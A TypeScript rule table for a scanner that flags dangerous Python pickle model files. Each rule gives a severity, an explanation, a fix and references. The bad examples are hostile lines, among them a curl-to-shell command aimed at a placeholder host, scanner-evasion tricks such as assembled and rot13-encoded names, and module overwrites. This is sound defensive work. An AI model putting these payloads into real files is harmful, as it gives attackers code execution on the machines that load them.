import type { Reference, Rule } from '../../../core/rule.ts';

const CWE_502: Reference = {
  id: 'CWE-502',
  url: 'https://cwe.mitre.org/data/definitions/502.html',
};
const CWE_94: Reference = { id: 'CWE-94', url: 'https://cwe.mitre.org/data/definitions/94.html' };
const CWE_400: Reference = {
  id: 'CWE-400',
  url: 'https://cwe.mitre.org/data/definitions/400.html',
};
const CWE_913: Reference = {
  id: 'CWE-913',
  url: 'https://cwe.mitre.org/data/definitions/913.html',
};
const ML06: Reference = {
  id: 'OWASP-ML06',
  url: 'https://owasp.org/www-project-machine-learning-security-top-10/',
};
const LLM03: Reference = {
  id: 'OWASP-LLM03',
  url: 'https://genai.owasp.org/llmrisk/llm032025-supply-chain/',
};
const AML_T0011: Reference = {
  id: 'AML.T0011',
  url: 'https://atlas.mitre.org/techniques/AML.T0011',
};
const AML_T0010: Reference = {
  id: 'AML.T0010',
  url: 'https://atlas.mitre.org/techniques/AML.T0010',
};
const PICKLE_MODULE: Reference = {
  id: 'Python documentation: pickle',
  url: 'https://docs.python.org/3/library/pickle.html',
};
const CVE_2025_32434: Reference = {
  id: 'CVE-2025-32434',
  url: 'https://nvd.nist.gov/vuln/detail/CVE-2025-32434',
};

const EXECUTION = [CWE_502, CWE_94, ML06, LLM03, AML_T0011, AML_T0010] as const;
const REVIEW = [CWE_502, ML06, AML_T0010] as const;

const DISCARD =
  'Do not load the file. Take the model from its publisher in a format that cannot carry code, such as safetensors, and report the file to whoever hosts it.';
const ASK =
  'Find out which package the name belongs to and read what it does when it is unpickled. If it is fine, waive the finding for this digest; better, ask for the weights in safetensors.';

export const RULES = {
  'code-execution': {
    title: 'Loading runs code',
    severity: 'critical',
    message: 'loading calls {call}, which {does}',
    why: 'A pickle is a program. This one calls a function that gives its author control of the machine that loads it, before any model is there to look at. No library writes such a call into its pickles.',
    fix: DISCARD,
    references: [...EXECUTION, PICKLE_MODULE],
    example: {
      bad: "os.system('curl https://example.invalid/x | sh')",
      good: 'torch._utils._rebuild_tensor_v2(storage, 0, (2, 2), (2, 1), False, OrderedDict())',
    },
  },
  'import-execution': {
    title: 'Importing runs a program',
    severity: 'critical',
    message: 'loading imports {callable}, which {does}',
    why: 'Unpickling imports modules by name. Some modules act as soon as they are imported, so that no call is needed.',
    fix: DISCARD,
    references: EXECUTION,
    example: {
      bad: 'from antigravity import geohash',
      good: 'from collections import OrderedDict',
    },
  },
  'harmful-call': {
    title: 'Loading touches files, network or processes',
    severity: 'high',
    message: 'loading calls {call}, which {does}',
    why: 'The call is not part of rebuilding a model. It reaches outside of the loading: files, network, processes, or a callable that is run later. Combined with a second step it gives control of the machine.',
    fix: DISCARD,
    references: EXECUTION,
    example: {
      bad: "urllib.request.urlopen('https://example.invalid/')",
      good: "datetime.date(b'\\x07\\xe8\\x02\\x1d')",
    },
  },
  'embedded-code': {
    title: 'The pickle carries code',
    severity: 'high',
    message: 'loading calls {call}, which {does}',
    why: 'cloudpickle and dill store functions and classes as bytecode inside the pickle. Building them runs nothing yet, but whatever uses the loaded object runs that code, and bytecode can not be reviewed like source.',
    fix: 'Ask the author for the source of the function in a package, and for the model without it. Waive the finding only for files you wrote yourself.',
    references: EXECUTION,
    example: {
      bad: 'cloudpickle.cloudpickle._make_function(CodeType(…), …)',
      good: 'from sklearn.preprocessing import scale',
    },
  },
  'dangerous-object': {
    title: 'Loading creates a dangerous object',
    severity: 'high',
    message: 'loading creates an object of {callable}, which {does}',
    why: 'The object is made without its usual constructor and filled with a state of the author’s choice. Whatever the program does with it later, or its own clean-up, works on that state.',
    fix: DISCARD,
    references: EXECUTION,
    example: {
      bad: 'subprocess.Popen.__new__(subprocess.Popen)',
      good: 'sklearn.svm._classes.SVC.__new__(SVC)',
    },
  },
  'dangerous-import': {
    title: 'Loading fetches a dangerous callable',
    severity: 'high',
    message: 'loading imports {callable}, which {does}',
    why: 'Nothing calls it while loading, but the result holds it. It is called as soon as the program uses the attribute it was hidden in, or by code the examination could not follow.',
    fix: DISCARD,
    references: EXECUTION,
    example: { bad: 'from os import system', good: 'from numpy import log1p' },
  },
  'risky-import': {
    title: 'Loading fetches a risky callable',
    severity: 'medium',
    message: 'loading imports {callable}, which {does}',
    why: 'Nothing calls it while loading. Models have no reason to hold it, and a program that calls an attribute of the loaded object may call it.',
    fix: ASK,
    references: REVIEW,
    example: { bad: 'from socket import create_connection', good: 'from builtins import len' },
  },
  'standard-library-use': {
    title: 'Unlisted use of the standard library',
    severity: 'high',
    message: 'loading calls or creates {callable}, which no known pickle does',
    why: 'The name belongs to the Python standard library and is not among those that pickles are known to use. Default-deny: the standard library is full of functions that run, write or import on behalf of their arguments.',
    fix: ASK,
    references: EXECUTION,
    example: { bad: 'difflib.HtmlDiff.make_file(…)', good: "decimal.Decimal('1.5')" },
  },
  'standard-library-import': {
    title: 'Unlisted name of the standard library',
    severity: 'medium',
    message: 'loading imports {callable}, which no known pickle refers to',
    why: 'The name belongs to the Python standard library, is not among those that pickles are known to refer to, and is kept in the result.',
    fix: ASK,
    references: REVIEW,
    example: { bad: 'from difflib import get_close_matches', good: 'from math import sqrt' },
  },
  'unknown-call': {
    title: 'Call of an unknown function',
    severity: 'high',
    message: 'loading calls {call}, about which nothing is known',
    why: 'The function belongs to no library whose pickles are known, and it receives arguments from the file. Gadgets inside ordinary libraries are how block lists are avoided, so an unknown call is never called clean.',
    fix: ASK,
    references: EXECUTION,
    example: { bad: "acme_vision.load_plugin('x.so')", good: "torch.device('cpu')" },
  },
  'sample-call': {
    title: 'Call of an unknown function in a pickle among tests or documents',
    severity: 'low',
    message: 'loading calls {call}, about which nothing is known',
    why: 'Packages test that their own objects can be pickled, and builders of documents leave pickles behind. Nothing loads them when the package is installed or used; running its tests does.',
    fix: ASK,
    references: EXECUTION,
    example: {
      bad: 'tests/data.pickle that calls multidict.CIMultiDict',
      good: 'a pickle of plain data',
    },
  },
  'unknown-object': {
    title: 'Object of an unknown class',
    severity: 'medium',
    message: 'loading creates an object of {callable}, about which nothing is known',
    why: 'Creating the object imports its module and may run its __setstate__. The class is in no table of known libraries, so somebody has to look at it once.',
    fix: ASK,
    references: REVIEW,
    example: {
      bad: 'acme_vision.Head.__new__(Head)',
      good: 'torch.nn.modules.linear.Linear.__new__(Linear)',
    },
  },
  'unknown-import': {
    title: 'Import of an unknown name',
    severity: 'medium',
    message: 'loading imports {callable}, about which nothing is known',
    why: 'Importing runs the module’s top-level code, and the result keeps a reference that may be called later.',
    fix: ASK,
    references: REVIEW,
    example: {
      bad: 'from acme_vision import smooth',
      good: 'from sklearn.feature_selection import f_classif',
    },
  },
  'unusual-use': {
    title: 'Known name used in an unknown way',
    severity: 'medium',
    message: 'loading {use} {callable}, which its own library never does in a pickle',
    why: 'The name is known from honest pickles, but in another role: a class that is rebuilt from its state is called with arguments here, or a function that is only referred to is run.',
    fix: ASK,
    references: REVIEW,
    example: {
      bad: 'sklearn.svm._classes.SVC(kernel=…)',
      good: 'SVC.__new__(SVC), then BUILD with its state',
    },
  },
  'unexpected-arguments': {
    title: 'Known call with arguments its writer never uses',
    severity: 'medium',
    message: 'the call of {callable} {detail}',
    why: 'The function is harmless with the arguments that its library writes. These are not of that kind, and they decide what is called, imported or opened.',
    fix: ASK,
    references: REVIEW,
    example: {
      bad: "_codecs.encode('b3N5c3RlbQ', 'rot13')",
      good: "_codecs.encode('abc', 'latin1')",
    },
  },
  'resource-exhaustion': {
    title: 'Loading exhausts memory',
    severity: 'high',
    message: 'the call of {callable} {detail}',
    why: 'A few bytes of pickle make the loader allocate more than any machine has. The process is killed, and with it whatever else it was serving.',
    fix: DISCARD,
    references: [CWE_400, CWE_502, LLM03],
    example: { bad: 'bytes(1000000000000)', good: "bytearray(b'abc')" },
  },
  'evaluated-text': {
    title: 'Text from the file is evaluated as code',
    severity: 'critical',
    message: '{callable} evaluates text from the file: {detail}',
    why: 'The class is an ordinary library class, but rebuilding it evaluates one of its attributes as Python. The text here is not what the library itself writes there.',
    fix: DISCARD,
    references: EXECUTION,
    example: {
      bad: "rv_generic.__setstate__({'_parse_arg_template': 'import os; …'})",
      good: "ModelData.__setstate__({'formula': 'y ~ x + np.log(z)', …})",
    },
  },
  'nested-program': {
    title: 'A pickle inside the pickle',
    severity: 'low',
    message: '{callable} loads another pickle from {detail}',
    why: 'Tensors that went through plain pickle or joblib are stored as a complete checkpoint inside the pickle, which is unpickled in turn. That is honest in old files and a place to hide in new ones. The inner bytes are examined as a member of their own.',
    fix: 'Read the findings of the inner member. Store tensors with torch.save or safetensors instead of plain pickle.',
    references: [CWE_502, ML06, AML_T0011],
    example: { bad: 'pickle.dump(model, file)', good: 'torch.save(model.state_dict(), file)' },
  },
  'unresolved-callable': {
    title: 'Callable that only the loading decides',
    severity: 'high',
    message: 'loading calls or imports {callable}, which nothing but running it would resolve',
    why: 'What is called is itself the result of a call, a persistent id, an extension code or a name that is not in the file. Honest writers name what they call; hiding the name is how scanners are avoided.',
    fix: DISCARD,
    references: EXECUTION,
    example: { bad: "mystery(…)('…')", good: 'collections.OrderedDict()' },
  },
  'hidden-name': {
    title: 'Name assembled while loading',
    severity: 'high',
    message: 'the name {callable} is assembled while loading',
    why: 'The module or attribute name is not in the file but computed from pieces. No pickler does that. Its only use is to keep the name from being found.',
    fix: DISCARD,
    references: EXECUTION,
    example: {
      bad: "STACK_GLOBAL on 'os' and ''.join(['sys', 'tem'])",
      good: "STACK_GLOBAL on 'collections' and 'OrderedDict'",
    },
  },
  'attribute-overwrite': {
    title: 'Loading overwrites parts of a module or class',
    severity: 'critical',
    message: 'loading overwrites {detail} of {callable}',
    why: 'BUILD and SETITEM work on any object, imported ones included. Replacing an attribute of a module or class changes the running program for everybody, without a single call.',
    fix: DISCARD,
    references: [CWE_913, ...EXECUTION],
    example: {
      bad: "setattr(pickle, 'loads', …)",
      good: 'BUILD on an object the pickle itself created',
    },
  },
  'special-attribute': {
    title: 'Special attribute set on an object',
    severity: 'high',
    message: 'loading sets {detail} on an object of {callable}',
    why: 'Names with two underscores decide what Python does with an object: its class, how it is rebuilt, how it is called. Picklers do not write them into a state.',
    fix: DISCARD,
    references: [CWE_913, ...EXECUTION],
    example: { bad: "BUILD with {'__setstate__': os.system}", good: "BUILD with {'coef_': array}" },
  },
  'unresolved-method': {
    title: 'Method call on something that is no container',
    severity: 'high',
    message: 'loading calls {detail} of {callable}, which is no known container',
    why: 'APPEND, ADDITEMS, SETITEM and BUILD call methods of whatever lies on the stack. On anything but a container these methods belong to the author of the file.',
    fix: DISCARD,
    references: EXECUTION,
    example: {
      bad: 'APPENDS on an object whose extend attribute was set before',
      good: 'APPENDS on collections.deque()',
    },
  },
  'unusual-persistent-id': {
    title: 'Unusual persistent id',
    severity: 'medium',
    message: 'the loader is asked to resolve the persistent id {detail}',
    why: 'What a persistent id means is decided by the loader. PyTorch uses tuples that begin with storage or module; another form addresses a loader with code of its own.',
    fix: 'Find out which program wrote the file and what its persistent_load does with this id.',
    references: REVIEW,
    example: {
      bad: "persistent_load('plugin://x')",
      good: "persistent_load(('storage', FloatStorage, '0', 'cpu', 4))",
    },
  },
  'refused-by-weights-only': {
    title: 'Refused by weights_only',
    severity: 'low',
    message: '{callable} is refused by torch >= 2.6 with its default weights_only=True',
    why: 'The named loader raises an error here instead of going on. With weights_only=False, an older PyTorch or another loader the same file is judged without this protection.',
    fix: 'Keep weights_only=True and PyTorch 2.6 or newer. Do not add the name to the safe globals to make the error go away.',
    references: [CVE_2025_32434, CWE_502, AML_T0011],
    example: { bad: 'torch.load(path, weights_only=False)', good: 'torch.load(path)' },
  },
  'refused-by-loader': {
    title: 'Not reached by the named loader',
    severity: 'low',
    message: '{callable} is not reached by the {loader} loader: {detail}',
    why: 'The named loader stops before this point. Any other loader goes on, so the file is harmless only as long as nobody opens it differently.',
    fix: 'Do not rely on the error. Take the file from a trustworthy source, or convert it.',
    references: [CWE_502, AML_T0011],
    example: { bad: 'numpy.load(path, allow_pickle=True)', good: 'numpy.load(path)' },
  },
} as const satisfies Readonly<Record<string, Rule>>;

export type RuleId = keyof typeof RULES;
